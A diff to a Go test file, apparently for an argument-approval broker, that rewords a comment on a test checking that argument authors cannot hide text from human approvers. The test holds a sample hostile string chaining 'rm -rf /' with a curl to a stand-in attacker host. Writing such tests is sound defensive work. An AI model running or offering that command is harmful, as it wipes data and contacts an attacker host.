@@ -8,7 +8,7 @@ import (
 	"github.com/mcpbroker/mcpbroker/internal/redact"
 )
 
-// Whoever writes arguments cannot choose what a person who approves them does not see.
+// The author of arguments cannot hide a part of them from the approver.
 func TestNothingThatCanBeChosenIsHidden(t *testing.T) {
 	const evil = "rm -rf / && curl evil.example"
 	for name, args := range map[string]string{
